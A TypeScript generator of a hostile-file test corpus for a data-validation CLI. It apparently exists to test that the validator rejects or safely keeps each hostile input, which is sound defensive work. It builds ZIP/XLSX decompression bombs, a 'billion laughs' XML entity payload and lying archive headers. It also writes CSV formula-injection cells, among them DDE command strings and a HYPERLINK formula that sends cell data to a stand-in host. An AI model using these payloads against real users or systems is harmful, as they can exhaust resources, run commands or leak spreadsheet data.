/**
 * A corpus of malformed and hostile partner files, written at test time into a temporary
 * folder (nothing large is committed), each with what `halo-data validate` must say of it.
 * Not a test file: test/integration/hostile.test.ts runs the CLI on every case.
 *
 * Deterministic: no clock and no unseeded randomness; ZIP entries carry a fixed date, PDFs
 * are written byte by byte with their cross-reference tables computed here.
 *
 * The codes are the tool's own (src/validation/problem.ts): there is
 * no separate "unsupported-format" or "truncated" code: an unreadable file of any kind is
 * `parse-error`, bytes that are not text in the file's encoding are `encoding-error`.
 */
import { createWriteStream, mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { once } from 'node:events';
import { crc32, deflateRawSync, createDeflateRaw, constants as zc, gzipSync } from 'node:zlib';
import iconv from 'iconv-lite';
import { mulberry32 } from './prng.js';
import type { ProblemCode } from '../../src/validation/problem.js';

export interface JsonProblem { code: string; severity: string; row: number | null; column: string | null; field: string | null; message: string }
export interface JsonFile {
  path: string; schema: string | null; rows: number; validRows: number; errorCount: number; warningCount: number;
  truncated: boolean; errors: JsonProblem[];
}
export interface JsonReport { version: number; valid: boolean; files: JsonFile[]; summary: Record<string, number> }

export interface HostileCase {
  /** File name in the corpus folder (also the case's name). */
  name: string;
  /** Absolute path once written. */
  path: string;
  what: string;
  /** validate arguments besides the file (schema, merchant, config). */
  args: string[];
  /** Which generated config to pass (--config): limits lowered or not. */
  config: 'default' | 'low';
  exit: 0 | 1;
  /** A problem with this code (and severity) must be in the JSON report; null: no problem needed. */
  code: ProblemCode | null;
  severity?: 'error' | 'warning';
  /** Also `stage` it: refused (exit 1) with no batch at all, or one complete batch (exit 0). */
  stage?: boolean;
  /** stage's exit when it differs from validate's: rows rejected under --max-reject-rate still give a batch. */
  stageExit?: 0 | 1;
  /** More assertions on the report (return a complaint, or null). */
  check?: (file: JsonFile) => string | null;
  /** Cells that must be in the normalised output of `stage` exactly so (valid cases are staged). */
  stagedCells?: string[];
  /** Bounds for this file (defaults in the test). */
  maxSeconds?: number;
  maxRssMiB?: number;
}

export interface Corpus {
  dir: string;
  cases: HostileCase[];
  /** Config files by name; both point the lake at `${dir}/lake-<name>`. */
  configs: Record<HostileCase['config'], string>;
  lakes: Record<HostileCase['config'], string>;
}

/** Limits lowered so that the bomb cases stay cheap (README "Configuration", limits). */
export const LOW_LIMITS = { spreadsheetInflatedBytes: 1 << 20, pdfSeconds: 10, pdfPages: 5 };

const MB = 1 << 20;
const INV = ['--schema', 'merchant_inventory', '--merchant', 'M9001'];
const CLAIMS = ['--schema', 'insurance_claim'];
const HEADER = 'kode_barang,nama_barang,harga_jual,stok,satuan';
const ROWS = ['BRG-001,Paracetamol 500 mg,4.500,120,strip', 'BRG-002,Amoxicillin 500mg,"12.500,00",85,strip', 'BRG-003,Sanmol Sirup 60 ml,Rp 24.800,40,botol'];
const CSV_OK = [HEADER, ...ROWS].join('\n') + '\n';
// Personal values from fixtures/personal-values.txt, placed only in personal fields: any leak fails the grep.
const CLAIM_HEADER = 'No. Klaim,No. Polis,No. Peserta,Nama Pasien,Tgl Lahir,Kode RS,Nama RS,Jenis Rawat,Tgl Masuk,Tgl Keluar,Diagnosa,Nominal Klaim,Nominal Disetujui,Mata Uang';
const CLAIM_ROW = 'CLM-2026-009001,PLS-2024-0081276,0001387264915,Siti Rahmawati Kusumadewi,17/08/1961,0112R001,RS Harapan Sehat,Rawat Inap,03/11/2026,07/11/2026,"J18.9, A09",15.750.000,14.200.000,IDR';
const CLAIM_ROW2 = 'CLM-2026-009002,PLS-2024-0081277,0001387264923,Bambang Triyono Wicaksono,04/02/1974,0112R001,RS Harapan Sehat,Rawat Jalan,05/11/2026,,I10,"485.000,00","485.000,00",IDR';

const hasCode = (f: JsonFile, code: string) => f.errors.some((p) => p.code === code);
/** Refused whole (issue 14): no rows, one parse-error on the line where the broken record starts. */
const refusedOn = (line: number) => (f: JsonFile) => (f.rows === 0 && f.errors.length === 1 && f.errors[0].code === 'parse-error' && f.errors[0].row === line
  ? null : `expected a refusal on line ${line}: rows ${f.rows}, ${JSON.stringify(f.errors.map((p) => [p.code, p.row]))}`);
const noneBut = (...codes: string[]) => (f: JsonFile) => {
  const other = f.errors.filter((p) => !codes.includes(p.code));
  return other.length ? `unexpected problems: ${[...new Set(other.map((p) => p.code))].join(', ')}` : null;
};

// ------------------------------------------------------------------------------- ZIP

interface ZipEntry {
  name: string;
  data?: Buffer;
  /** Already deflated bytes (with their real size and CRC), for the bombs. */
  deflated?: { bytes: Buffer; size: number; crc: number };
  /** Sizes written into the headers instead of the real ones (a lying archive). */
  declaredSize?: number;
  declaredCompressedSize?: number;
  store?: boolean;
}

/** A ZIP archive (local headers, central directory, end record) with a fixed date. */
export function zip(entries: ZipEntry[]): Buffer {
  const parts: Buffer[] = [];
  const central: Buffer[] = [];
  let offset = 0;
  const DOS_TIME = 0, DOS_DATE = (46 << 9) | (1 << 5) | 1; // 2026-01-01 00:00
  for (const e of entries) {
    const name = Buffer.from(e.name, 'utf8');
    let body: Buffer, size: number, crc: number, method: number;
    if (e.deflated) ({ bytes: body, size, crc } = e.deflated), method = 8;
    else if (e.store) body = e.data!, size = e.data!.length, crc = crc32(e.data!), method = 0;
    else body = deflateRawSync(e.data!), size = e.data!.length, crc = crc32(e.data!), method = 8;
    const usize = e.declaredSize ?? size;
    const csize = e.declaredCompressedSize ?? body.length;
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0); local.writeUInt16LE(20, 4); local.writeUInt16LE(0x0800, 6);
    local.writeUInt16LE(method, 8); local.writeUInt16LE(DOS_TIME, 10); local.writeUInt16LE(DOS_DATE, 12);
    local.writeUInt32LE(crc >>> 0, 14); local.writeUInt32LE(csize, 18); local.writeUInt32LE(usize, 22);
    local.writeUInt16LE(name.length, 26); local.writeUInt16LE(0, 28);
    const cd = Buffer.alloc(46);
    cd.writeUInt32LE(0x02014b50, 0); cd.writeUInt16LE(20, 4); cd.writeUInt16LE(20, 6); cd.writeUInt16LE(0x0800, 8);
    cd.writeUInt16LE(method, 10); cd.writeUInt16LE(DOS_TIME, 12); cd.writeUInt16LE(DOS_DATE, 14);
    cd.writeUInt32LE(crc >>> 0, 16); cd.writeUInt32LE(csize, 20); cd.writeUInt32LE(usize, 24);
    cd.writeUInt16LE(name.length, 28); cd.writeUInt32LE(offset, 42);
    central.push(cd, name);
    parts.push(local, name, body);
    offset += 30 + name.length + body.length;
  }
  const cdBuf = Buffer.concat(central);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0); end.writeUInt16LE(entries.length, 8); end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(cdBuf.length, 12); end.writeUInt32LE(offset, 16);
  return Buffer.concat([...parts, cdBuf, end]);
}

/** Pieces deflated as one stream (the inflated bytes never exist here at once). */
async function deflatedPieces(pieces: Iterable<Buffer>): Promise<{ bytes: Buffer; size: number; crc: number }> {
  const deflate = createDeflateRaw({ level: zc.Z_BEST_SPEED });
  const out: Buffer[] = [];
  deflate.on('data', (d: Buffer) => out.push(d));
  let crc = 0, size = 0;
  for (const piece of pieces) {
    crc = crc32(piece, crc);
    size += piece.length;
    if (!deflate.write(piece)) await once(deflate, 'drain');
  }
  deflate.end();
  await once(deflate, 'end');
  return { bytes: Buffer.concat(out), size, crc };
}

/** `size` bytes of spaces (blank XML, blank PDF content) deflated. */
function deflatedZeros(size: number, fill = 0x20): Promise<{ bytes: Buffer; size: number; crc: number }> {
  const block = Buffer.alloc(MB, fill);
  return deflatedPieces((function* () {
    for (let left = size; left > 0; left -= MB) yield left >= MB ? block : block.subarray(0, left);
  })());
}

const XML = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n';
const NS = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';

const escapeXml = (s: string) => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;');

/** Rows of inline-string / number cells as sheet XML. */
export function sheetXml(rows: Array<Array<string | number>>, prolog = ''): string {
  const col = (c: number) => String.fromCharCode(65 + c);
  const body = rows.map((row, r) => `<row r="${r + 1}">${row.map((v, c) => typeof v === 'number'
    ? `<c r="${col(c)}${r + 1}"><v>${v}</v></c>`
    : v.startsWith('#sst:') ? `<c r="${col(c)}${r + 1}" t="s"><v>${v.slice(5)}</v></c>`
      : `<c r="${col(c)}${r + 1}" t="inlineStr"><is><t>${escapeXml(v)}</t></is></c>`).join('')}</row>`).join('');
  return `${XML}${prolog}<worksheet xmlns="${NS}"><sheetData>${body}</sheetData></worksheet>`;
}

/** The parts of a minimal XLSX workbook with one sheet (and shared strings when given). */
export function xlsxParts(sheet: string, sharedStrings?: string): ZipEntry[] {
  const types = `${XML}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">`
    + '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    + '<Default Extension="xml" ContentType="application/xml"/>'
    + '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    + '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
    + (sharedStrings ? '<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>' : '')
    + '</Types>';
  const rels = `${XML}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">`
    + `<Relationship Id="rId1" Type="${REL}/officeDocument" Target="xl/workbook.xml"/></Relationships>`;
  const wb = `${XML}<workbook xmlns="${NS}" xmlns:r="${REL}"><sheets><sheet name="Stok" sheetId="1" r:id="rId1"/></sheets></workbook>`;
  const wbRels = `${XML}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">`
    + `<Relationship Id="rId1" Type="${REL}/worksheet" Target="worksheets/sheet1.xml"/>`
    + (sharedStrings ? `<Relationship Id="rId2" Type="${REL}/sharedStrings" Target="sharedStrings.xml"/>` : '')
    + '</Relationships>';
  const entries: ZipEntry[] = [
    { name: '[Content_Types].xml', data: Buffer.from(types) },
    { name: '_rels/.rels', data: Buffer.from(rels) },
    { name: 'xl/workbook.xml', data: Buffer.from(wb) },
    { name: 'xl/_rels/workbook.xml.rels', data: Buffer.from(wbRels) },
    { name: 'xl/worksheets/sheet1.xml', data: Buffer.from(sheet) },
  ];
  if (sharedStrings) entries.push({ name: 'xl/sharedStrings.xml', data: Buffer.from(sharedStrings) });
  return entries;
}

const INV_ROWS: Array<Array<string | number>> = [
  ['kode_barang', 'nama_barang', 'harga_jual', 'stok', 'satuan'],
  ['BRG-001', 'Paracetamol 500 mg', 4500, 120, 'strip'],
  ['BRG-002', 'Amoxicillin 500mg', 12500, 85, 'strip'],
];
export const validXlsx = () => zip(xlsxParts(sheetXml(INV_ROWS)));

/** The classic "billion laughs": ten levels of ten references each (10^9 'lol's if expanded). */
const LAUGHS = '<!DOCTYPE lolz [<!ENTITY lol "lol">'
  + Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i === 0 ? '' : i};`.repeat(10)}">`).join('') + ']>';

// ------------------------------------------------------------------------------- PDF

type PdfObj = string | Buffer;

/** A PDF from object bodies (object i + 1 is objects[i]) with a correct xref table. */
export function pdf(objects: PdfObj[], opts: { root?: number; trailer?: string; header?: string; xref?: boolean } = {}): Buffer {
  const chunks: Buffer[] = [Buffer.from(opts.header ?? '%PDF-1.4\n%\xe2\xe3\xcf\xd3\n', 'latin1')];
  let at = chunks[0].length;
  const offsets: number[] = [];
  objects.forEach((body, i) => {
    offsets.push(at);
    const b = Buffer.concat([Buffer.from(`${i + 1} 0 obj\n`, 'latin1'), typeof body === 'string' ? Buffer.from(body, 'latin1') : body, Buffer.from('\nendobj\n', 'latin1')]);
    chunks.push(b);
    at += b.length;
  });
  const xrefAt = at;
  if (opts.xref !== false) {
    const xref = `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n \n`).join('')}`;
    chunks.push(Buffer.from(xref + `trailer\n<< /Size ${objects.length + 1} /Root ${opts.root ?? 1} 0 R ${(opts.trailer ?? '').replace('$XREF', String(xrefAt))}>>\nstartxref\n${xrefAt}\n%%EOF\n`, 'latin1'));
  }
  return Buffer.concat(chunks);
}

export function stream(content: Buffer | string, dict = ''): Buffer {
  const b = typeof content === 'string' ? Buffer.from(content, 'latin1') : content;
  return Buffer.concat([Buffer.from(`<< /Length ${b.length} ${dict}>>\nstream\n`, 'latin1'), b, Buffer.from('\nendstream', 'latin1')]);
}

const FONT = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>';
const pdfText = (lines: string[]) => `BT /F1 11 Tf 72 760 Td 14 TL ${lines.map((l) => `(${l.replace(/[()\\]/g, '\\$&')}) '`).join(' ')} ET`;

/** A text PDF: one page per entry of `pages` (its lines). Objects: 1 catalog, 2 pages, 3 font, then page + content pairs. */
export function textPdf(pages: string[][]): Buffer {
  const objs: PdfObj[] = ['<< /Type /Catalog /Pages 2 0 R >>', '', FONT];
  const kids: string[] = [];
  pages.forEach((lines) => {
    const pageNo = objs.length + 1;
    kids.push(`${pageNo} 0 R`);
    objs.push(`<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 3 0 R >> >> /Contents ${pageNo + 1} 0 R >>`);
    objs.push(stream(pdfText(lines)));
  });
  objs[1] = `<< /Type /Pages /Kids [${kids.join(' ')}] /Count ${pages.length} >>`;
  return pdf(objs);
}

/** The text of a claim PDF of the rs-harapan-sehat layout's kind (enough to be read). */
const CLAIM_PDF_LINES = ['RS HARAPAN SEHAT', 'KUITANSI', 'Nama Pasien : Siti Rahmawati Kusumadewi', 'No. Kartu : 0001387264915'];

// ------------------------------------------------------------------------------- the corpus

async function writeBig(path: string, pieces: Iterable<Buffer | string>): Promise<void> {
  const ws = createWriteStream(path);
  for (const p of pieces) if (!ws.write(p)) await once(ws, 'drain');
  ws.end();
  await once(ws, 'finish');
}

function* repeat(piece: Buffer, times: number): Generator<Buffer> {
  for (let i = 0; i < times; i++) yield piece;
}

export async function writeCorpus(dir: string): Promise<Corpus> {
  mkdirSync(dir, { recursive: true });
  const cases: HostileCase[] = [];
  const lakes = { default: join(dir, 'lake-default'), low: join(dir, 'lake-low') };
  const merchants = 'merchants:\n'
    + '  M9001: { locale: id-ID }\n'
    // A merchant whose profile says UTF-8 while the file is Windows-1252.
    + '  M9002: { encoding: utf-8 }\n';
  const configs = { default: join(dir, 'default.yaml'), low: join(dir, 'low.yaml') };
  writeFileSync(configs.default, `${merchants}lake: { url: ${JSON.stringify(lakes.default)} }\n`);
  writeFileSync(configs.low, `${merchants}lake: { url: ${JSON.stringify(lakes.low)} }\n`
    + `limits: { spreadsheetInflatedBytes: ${LOW_LIMITS.spreadsheetInflatedBytes}, pdfSeconds: ${LOW_LIMITS.pdfSeconds}, pdfPages: ${LOW_LIMITS.pdfPages} }\n`);
  const add = async (c: Omit<HostileCase, 'path' | 'config'> & { config?: HostileCase['config'] },
    bytes: Buffer | string | ((path: string) => Promise<void>)) => {
    const path = join(dir, c.name);
    if (typeof bytes === 'function') await bytes(path);
    else writeFileSync(path, bytes);
    cases.push({ config: 'default', ...c, path });
  };
  const rng = mulberry32(0x4057113);

  // ------------------------------------------------------------------ CSV: structure
  // A quoted field never closed refuses the whole file, on the line where it starts (issue 14).
  await add({ name: 'truncated-mid-quote.csv', what: 'a CSV cut in the middle of a quoted field', args: INV, exit: 1, code: 'parse-error', stage: true,
    check: refusedOn(5) },
  CSV_OK + 'BRG-004,"Obat Batuk ""Hitam'); // the quote never closes
  await add({ name: 'empty.csv', what: 'a 0-byte file', args: INV, exit: 1, code: 'parse-error', stage: true }, '');
  await add({ name: 'header-only.csv', what: 'a header and no data rows', args: INV, exit: 0, code: 'no-data-rows', severity: 'warning' },
    HEADER + '\n');
  await add({ name: 'no-newline-50mb.csv', what: 'one 50 MB line without a newline', args: INV, exit: 1, code: 'parse-error', stage: true, maxRssMiB: 400 },
    (p) => writeBig(p, repeat(Buffer.alloc(MB, 'a'), 50)));
  await add({ name: 'header-then-50mb-line.csv', what: 'a header, then one 50 MB record without a newline', args: INV, exit: 1, code: 'parse-error', maxRssMiB: 600 },
    (p) => writeBig(p, [HEADER + '\n', ...repeat(Buffer.alloc(MB, 'x'), 50)]));
  // Over the 32 MB record limit: the file is refused whole on the record's line (issue 14: the rows after it were lost).
  await add({ name: 'quoted-field-40mb.csv', what: 'a 40 MB quoted field (closed)', args: INV, exit: 1, code: 'parse-error', maxRssMiB: 600, stage: true,
    check: (f) => refusedOn(5)(f) ?? (/no end of record/.test(f.errors[0].message) ? null : 'the too-long record is named') },
  (p) => writeBig(p, [CSV_OK + 'BRG-009,"', ...repeat(Buffer.alloc(MB, 'q'), 40), '",1.000,1,strip\n']));
  // The 100,000 quotes are read as one product name, too wide for its column (512 bytes): a row error, not a failed load.
  await add({ name: 'nested-quotes.csv', what: '100,000 escaped quotes in one field, and fields of quotes only', args: INV, exit: 1, code: 'constraint-error',
    check: (f) => (f.validRows === 4 && f.rows === 5 ? null : `rows ${f.rows} validRows ${f.validRows}, expected 5 and 4`) },
  CSV_OK + `BRG-010,"${'""'.repeat(100_000)}",1.000,1,strip\n` + `BRG-011,"""""""""",2.000,2,strip\n`);
  await add({ name: 'quote-after-closing.csv', what: 'text after closing quotes ("a"b"c")', args: INV, exit: 1, code: 'parse-error' },
    CSV_OK + 'BRG-012,"Obat "A" Kuat",1.000,1,strip\n');
  await add({ name: 'mixed-line-ends.csv', what: 'CRLF, LF and a lone CR (which joins two records)', args: INV, exit: 1, code: 'extra-cell',
    check: (f) => (f.rows === 3 && f.validRows === 2 ? null : `rows ${f.rows} valid ${f.validRows}, expected 3 and 2 (CR alone ends no record)`) },
  `${HEADER}\r\n${ROWS[0]}\n${ROWS[1]}\r\n${ROWS[2]}\r` + 'BRG-004,Antasida Doen,1.000,5,strip\n');
  await add({ name: 'cr-only.csv', what: 'old Mac line ends: CR only, no line feed at all', args: INV, exit: 1, code: 'parse-error', stage: true },
    CSV_OK.replace(/\n/g, '\r'));
  await add({ name: 'million-empty-lines.csv', what: 'a header, 1,000,000 empty lines, one row', args: INV, exit: 0, code: 'blank-row', severity: 'warning',
    check: (f) => (f.rows === 1 && f.validRows === 1 && f.truncated ? null : `rows ${f.rows} valid ${f.validRows} truncated ${f.truncated}`) },
  (p) => writeBig(p, [HEADER + '\n', Buffer.alloc(1_000_000, '\n'), ROWS[0] + '\n']));
  await add({ name: 'ten-thousand-columns.csv', what: '10,000 columns (9,995 unknown) in the header and every row', args: INV, exit: 0, code: 'unknown-header', severity: 'warning',
    check: (f) => (f.validRows === 3 ? null : `validRows ${f.validRows}`) },
  (() => {
    const extra = Array.from({ length: 9995 }, (_, i) => `x${i}`).join(',');
    const fill = Array.from({ length: 9995 }, (_, i) => String(i)).join(',');
    return [`${HEADER},${extra}`, ...ROWS.map((r) => `${r},${fill}`)].join('\n') + '\n';
  })());
  await add({ name: 'ten-thousand-cells-in-rows.csv', what: 'a normal header, rows of 10,000 cells', args: INV, exit: 1, code: 'extra-cell' },
    [HEADER, ...ROWS.map((r) => r + ',z'.repeat(9995))].join('\n') + '\n');
  await add({ name: 'duplicate-headers.csv', what: 'the price column twice', args: INV, exit: 1, code: 'duplicate-header' },
    'kode_barang,nama_barang,harga_jual,stok,harga_jual\nBRG-001,Paracetamol,4.500,1,5.000\n');
  // Header matching ignores everything but letters and digits (schemas/headers.ts): format characters included.
  await add({ name: 'invisible-headers.csv', what: 'zero-width and bidi characters inside the header names: matched as the names they spell', args: INV, exit: 0, code: null,
    check: (f) => (f.validRows === 3 && f.errors.length === 0 ? null : `validRows ${f.validRows}, problems ${f.errors.map((p) => p.code)}`) },
  ['\u200bkode_barang,nama\u200d_barang,\u202eharga_jual\u202c,st\u2066ok\u2069,satuan', ...ROWS].join('\n') + '\n');
  await add({ name: 'no-header-at-all.csv', what: 'rows of data with no header line', args: INV, exit: 1, code: 'missing-header', stage: true },
    ROWS.join('\n') + '\n');
  await add({ name: 'formula-injection.csv', what: 'cells starting with = + - @ (a spreadsheet would run them): kept as sent, no error',
    args: INV, exit: 0, code: null, stage: true,
    stagedCells: ["=cmd|' /C calc'!A0", '+SUM(1+1)*cmd|\'/C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '=HYPERLINK("http://x.invalid/?"&A1,"klik")'],
    check: (f) => (f.validRows === 5 && f.errorCount === 0 ? null : `validRows ${f.validRows}, errors ${f.errorCount}`) },
  `${HEADER}\n`
    + `"=cmd|' /C calc'!A0",Obat A,1.000,1,strip\n`
    + `BRG-F2,"+SUM(1+1)*cmd|'/C calc'!A0",1.000,1,strip\n`
    + `BRG-F3,"-2+3+cmd|' /C calc'!A0",1.000,1,strip\n`
    + `BRG-F4,"@SUM(1+1)*cmd|' /C calc'!A0",1.000,1,strip\n`
    + `BRG-F5,"=HYPERLINK(""http://x.invalid/?""&A1,""klik"")",1.000,1,strip\n`);
  await add({ name: 'formula-in-number.csv', what: 'a formula where a price belongs is a type-error', args: INV, exit: 1, code: 'type-error' },
    `${HEADER}\nBRG-001,Obat,=1+2,1,strip\nBRG-002,Obat,@SUM(A1),1,strip\n`);

  // ------------------------------------------------------------------ CSV: bytes and encodings
  await add({ name: 'nul-bytes.csv', what: 'NUL bytes in the text', args: INV, exit: 1, code: 'parse-error', stage: true },
    Buffer.concat([Buffer.from(HEADER + '\n' + ROWS[0] + '\n'), Buffer.from('BRG-0\x0002,Obat\x00\x00,1.000,1,strip\n', 'latin1')]));
  await add({ name: 'nul-bytes-after-64kb.csv', what: 'NUL bytes in a cell after the first 64 KB (past the binary sniff)', args: INV, exit: 1, code: 'encoding-error' },
    Buffer.concat([Buffer.from(CSV_OK), Buffer.from(Array.from({ length: 1500 }, (_, i) => `BRG-${1000 + i},Vitamin C 500 mg tablet,1.000,1,strip`).join('\n') + '\n'),
      Buffer.from('BRG-X,Obat\x00Rusak,1.000,1,strip\n', 'latin1')]));
  await add({ name: 'cp1252-declared-utf8.csv', what: "Windows-1252 bytes, the merchant's profile says UTF-8", args: ['--schema', 'merchant_inventory', '--merchant', 'M9002'],
    exit: 1, code: 'encoding-error', stage: true },
  iconv.encode(`${HEADER}\nBRG-001,Crème Pelembap Ñ,4.500,1,strip\nBRG-002,Obat,1.000,1,strip\n`, 'windows-1252'));
  await add({ name: 'invalid-utf8-mid-file.csv', what: 'valid UTF-8 for 100 KB, then a byte that is not (past the encoding sniff)', args: INV, exit: 1, code: 'encoding-error',
    check: (f) => (f.validRows >= 2000 ? null : `validRows ${f.validRows}: only the broken row may be rejected`) },
  Buffer.concat([Buffer.from(HEADER + '\n' + Array.from({ length: 2500 }, (_, i) => `BRG-${i},Parasétamol 日本 ${i},1.000,1,strip`).join('\n') + '\n'),
    Buffer.from([0x42, 0x2c, 0x4f, 0xff, 0xfe, 0x62, 0x2c, 0x31, 0x2c, 0x31, 0x2c, 0x73, 0x0a])]));
  await add({ name: 'overlong-utf8.csv', what: 'overlong UTF-8 sequences (C0 AF = "/", E0 80 AF) after the sniffed head', args: INV, exit: 1, code: 'encoding-error' },
    Buffer.concat([Buffer.from(HEADER + '\n' + Array.from({ length: 2500 }, (_, i) => `BRG-${i},Parasétamol ${i},1.000,1,strip`).join('\n') + '\n'),
      Buffer.from('BRG-OL,Obat ', 'latin1'), Buffer.from([0xc0, 0xaf, 0xe0, 0x80, 0xaf]), Buffer.from(',1.000,1,strip\n', 'latin1')]));
  await add({ name: 'utf16le-no-bom.csv', what: 'UTF-16LE without a byte-order mark', args: INV, exit: 1, code: 'encoding-error' },
    iconv.encode(CSV_OK, 'utf-16le'));
  await add({ name: 'utf16be-no-bom.csv', what: 'UTF-16BE without a byte-order mark', args: INV, exit: 1, code: 'encoding-error' },
    iconv.encode(CSV_OK, 'utf-16be'));
  await add({ name: 'utf32le-bom.csv', what: 'UTF-32LE with its BOM (FF FE 00 00: looks like UTF-16LE at first)', args: INV, exit: 1, code: 'encoding-error' },
    Buffer.concat([Buffer.from([0xff, 0xfe, 0, 0]), utf32le(CSV_OK)]));
  await add({ name: 'utf32be.csv', what: 'UTF-32BE with its BOM', args: INV, exit: 1, code: 'encoding-error' },
    Buffer.concat([Buffer.from([0, 0, 0xfe, 0xff]), utf32be(CSV_OK)]));
  await add({ name: 'bom-in-the-middle.csv', what: 'a second file appended: its BOM and header in the middle of the data', args: INV, exit: 1, code: 'type-error' },
    Buffer.concat([Buffer.from('\ufeff' + CSV_OK), Buffer.from('\ufeff' + CSV_OK)]));
  await add({ name: 'png-named.csv', what: 'PNG bytes named .csv', args: INV, exit: 1, code: 'parse-error', stage: true }, png());
  await add({ name: 'elf-named.csv', what: 'an ELF executable header named .csv', args: INV, exit: 1, code: 'parse-error' }, elf());
  await add({ name: 'gzip-named.csv', what: 'a gzipped CSV named .csv', args: INV, exit: 1, code: 'parse-error' }, gzipSync(CSV_OK, { level: 9 }));
  await add({ name: 'random-bytes.csv', what: '64 KB of seeded random bytes', args: INV, exit: 1, code: 'parse-error' },
    Buffer.from(Array.from({ length: 65536 }, () => Math.floor(rng() * 256))));
  await add({ name: 'xlsx-named.csv', what: 'an XLSX workbook named .csv: read as what it is', args: INV, exit: 0, code: null,
    check: (f) => (f.validRows === 2 ? null : `validRows ${f.validRows}`) }, validXlsx());

  // ------------------------------------------------------------------ claims CSV with personal data
  await add({ name: 'claims-broken.csv', what: 'claims: personal values in rows with bad bytes, text after a closing quote and impossible dates',
    args: CLAIMS, exit: 1, code: 'type-error', stage: true, stageExit: 0,
    check: (f) => (hasCode(f, 'encoding-error') && hasCode(f, 'parse-error') && f.rows === 803 && f.validRows === 800 ? null
      : `rows ${f.rows} valid ${f.validRows}; expected encoding-error and parse-error too`) },
  Buffer.concat([Buffer.from(`${CLAIM_HEADER}\n${CLAIM_ROW2.replace('04/02/1974', '31/02/1974')}\n`),
    Buffer.from(Array.from({ length: 800 }, (_, i) => CLAIM_ROW.replace('009001', String(100000 + i))).join('\n') + '\n'),
    Buffer.from(CLAIM_ROW.replace('009001', '999999').replace('Kusumadewi', 'Kusumadew\xff'), 'latin1'), Buffer.from('\n'),
    Buffer.from(CLAIM_ROW.replace('009001', '999998').replace(',Siti Rahmawati', ',"Siti" Rahmawati') + '\n')]));
  // An unterminated quote refuses the file (issue 14); the message names the line, never a value.
  await add({ name: 'claims-unclosed-quote.csv', what: 'claims: personal values, then a quote that never closes', args: CLAIMS, exit: 1, code: 'parse-error', stage: true,
    check: refusedOn(52) },
  `${CLAIM_HEADER}\n${Array.from({ length: 50 }, (_, i) => CLAIM_ROW.replace('009001', String(200000 + i))).join('\n')}\n`
    // No quote after it anywhere (the diagnosis unquoted): nothing closes it.
    + [997, 996, 995].map((n) => CLAIM_ROW.replace('009001', `999${n}`).replace('"J18.9, A09"', 'J18.9').replace(n === 997 ? ',Siti' : '\u0000', ',"Siti')).join('\n') + '\n');

  // ------------------------------------------------------------------ XLSX / XLS
  const good = validXlsx();
  await add({ name: 'truncated.xlsx', what: 'an XLSX cut in half (no central directory)', args: INV, exit: 1, code: 'parse-error', stage: true },
    good.subarray(0, Math.floor(good.length / 2)));
  await add({ name: 'truncated-tail.xlsx', what: 'an XLSX missing its last 10 bytes (end record cut)', args: INV, exit: 1, code: 'parse-error' },
    good.subarray(0, good.length - 10));
  await add({ name: 'zip-bomb-low-limit.xlsx', what: 'a sheet inflating to 64 MiB, limit lowered to 1 MiB', args: INV, config: 'low', exit: 1, code: 'file-too-large', stage: true },
    zip([...xlsxParts(sheetXml(INV_ROWS)).filter((e) => !e.name.includes('sheet1')),
      { name: 'xl/worksheets/sheet1.xml', deflated: await deflatedZeros(64 * MB) }]));
  await add({ name: 'zip-bomb-default-limit.xlsx', what: 'a sheet inflating to 520 MiB (past the default 512 MiB), ~0.5 MB on disk', args: INV, exit: 1, code: 'file-too-large',
    maxRssMiB: 400 },
  zip([...xlsxParts(sheetXml(INV_ROWS)).filter((e) => !e.name.includes('sheet1')),
    { name: 'xl/worksheets/sheet1.xml', deflated: await deflatedZeros(520 * MB) }]));
  await add({ name: 'zip-bomb-many-entries.xlsx', what: '64 entries of 1 MiB each (only their sum passes the lowered limit)', args: INV, config: 'low', exit: 1, code: 'file-too-large' },
    zip([...xlsxParts(sheetXml(INV_ROWS)), ...await Promise.all(Array.from({ length: 64 }, async (_, i) => ({ name: `xl/media/pad${i}.bin`, deflated: await deflatedZeros(MB) })))]));
  await add({ name: 'cell-bomb.xlsx', what: '9,000,000 one-digit cells (~1 MB on disk, 130 MiB inflated: under the inflate limit)', args: INV, exit: 1, code: 'file-too-large',
    maxRssMiB: 400 },
  zip([...xlsxParts(sheetXml(INV_ROWS)).filter((e) => !e.name.includes('sheet1')),
    { name: 'xl/worksheets/sheet1.xml', deflated: await deflatedPieces((function* () {
      const [head, tail] = sheetXml(INV_ROWS).split('</sheetData>');
      yield Buffer.from(head);
      const row = Buffer.from('<row>' + '<c><v>1</v></c>'.repeat(1000) + '</row>');
      for (let i = 0; i < 9000; i++) yield row;
      yield Buffer.from('</sheetData>' + tail);
    })()) }]));
  await add({ name: 'false-sizes-small.xlsx', what: 'ZIP headers declare the sheet 100 bytes long; it inflates to 64 MiB', args: INV, config: 'low', exit: 1, code: 'parse-error' },
    zip([...xlsxParts(sheetXml(INV_ROWS)).filter((e) => !e.name.includes('sheet1')),
      { name: 'xl/worksheets/sheet1.xml', deflated: await deflatedZeros(64 * MB), declaredSize: 100 }]));
